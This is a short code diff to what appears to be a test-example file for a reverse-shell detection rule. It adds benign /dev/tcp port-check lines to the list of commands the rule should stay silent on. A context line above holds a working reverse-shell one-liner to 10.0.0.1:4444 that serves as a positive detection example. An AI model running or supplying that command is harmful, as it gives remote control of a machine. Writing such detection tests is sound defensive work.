@@ -32,6 +32,8 @@ export const SHELLS_EXAMPLES: RuleExamples = {
       'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
     ],
     silent: [
+      "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
+      'exec 3<>/dev/tcp/example.com/80',
       'zmodload zsh/datetime',
       'ssh -L 8080:localhost:80 host',
       'sshpass -V',
